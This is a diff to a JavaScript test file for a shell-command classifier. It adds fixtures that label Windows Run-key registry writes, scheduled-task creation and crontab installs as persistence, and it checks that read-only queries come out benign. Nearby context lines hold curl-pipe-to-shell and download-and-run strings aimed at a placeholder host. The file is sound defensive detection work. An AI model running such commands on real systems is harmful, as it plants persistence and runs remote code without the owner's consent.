@@ -77,6 +77,10 @@ describe('what a command does', () => {
     ['c\\url https://h.invalid/x | s\\h', 'download-execute'],
     ['sudo env A=1 nohup curl https://h.invalid | sh', 'network'],
     ['echo x >> ~/.bashrc', 'persistence'],
+    ['reg add HKCU\\\\Software\\\\Run /v a /d b', 'persistence'],
+    ['reg $VERB HKCU\\\\Software\\\\Run', 'persistence'],
+    ['schtasks /create /tn a /tr b', 'persistence'],
+    ['crontab file', 'persistence'],
     ['mkdir -p .github/workflows && cp w.yml .github/workflows/w.yml', 'ci-config'],
     ['cmd /c curl https://h.invalid/a.exe -o a.exe & a.exe', 'download-execute'],
   ];
@@ -93,6 +97,10 @@ describe('what a command does', () => {
     'husky',
     'node -e "try{require(\'./postinstall\')}catch(e){}"',
     'npx only-allow pnpm',
+    'reg query HKLM\\\\HARDWARE /v FeatureSet',
+    'schtasks /Query /fo csv',
+    'launchctl list',
+    'crontab -l',
   ])('nothing: %s', (line) => {
     expect(commandFacts(line).doings).toEqual([]);
   });
